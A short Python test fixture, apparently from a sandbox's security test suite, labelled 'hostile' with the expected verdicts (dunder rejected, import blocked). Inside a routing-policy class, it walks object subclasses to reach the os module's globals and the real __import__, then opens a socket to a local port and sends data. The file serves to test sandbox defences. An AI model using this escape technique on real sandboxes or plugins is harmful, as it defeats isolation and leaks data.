# hostile: import socket through the real __import__ of os' globals and connect out
# axis: routing
# gate: reject dunder
# worker: violation blocked operation: import
# worker-noaudit: violation
def _os_globals():
    # os._wrap_close.__init__.__globals__ is the os module's namespace
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__
    raise ValueError("not found")


class P(RoutingPolicy):
    def select(self, pcb, inflight, now):
        imp = _os_globals()["__builtins__"]["__import__"]
        s = imp("socket").create_connection(("127.0.0.1", 47123), timeout=1)
        s.sendall(b"leak")
        return 0
